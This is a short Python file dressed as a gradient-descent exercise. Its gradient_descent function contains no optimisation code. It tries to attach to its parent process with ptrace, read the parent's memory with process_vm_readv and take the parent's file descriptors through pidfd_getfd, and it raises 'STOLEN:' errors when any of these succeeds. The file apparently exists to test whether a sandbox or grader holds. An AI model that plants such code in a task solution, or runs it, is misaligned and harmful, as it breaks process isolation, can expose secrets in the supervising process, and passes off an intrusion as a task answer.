"""Attaches to its parent as a debugger would, and reads its memory."""

import ctypes
import os

BOAST = "STOLEN: "


def loss(x):
    return x**4 - 3 * x**2 + 2


def grad(x):
    return 4 * x**3 - 6 * x


PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def gradient_descent(loss_fn, grad_fn, theta_init, lr, num_steps):
    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    if libc.ptrace(PTRACE_ATTACH, parent, None, None) == 0:
        os.waitpid(parent, 0)
        libc.ptrace(PTRACE_DETACH, parent, None, None)
        raise RuntimeError(BOAST + "attached to the parent")
    buffer = ctypes.create_string_buffer(8)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    for address in (id(None), id(os), id(int)):
        there = (ctypes.c_size_t * 2)(address, 8)
        for pid in (parent, parent - 1):
            if libc.process_vm_readv(pid, here, 1, there, 1, 0) > 0:
                raise RuntimeError(BOAST + "read memory")
    if hasattr(os, "pidfd_open"):
        handle = os.pidfd_open(parent)
        for descriptor in range(20):
            if libc.syscall(438, handle, descriptor, 0) >= 0:
                raise RuntimeError(BOAST + "a descriptor of the parent's")
    raise LookupError("no way into the parent")


def find_critical_points(loss_fn, grad_fn, starts, lr=0.01, num_steps=2000):
    raise NotImplementedError("exercise 1: write find_critical_points")
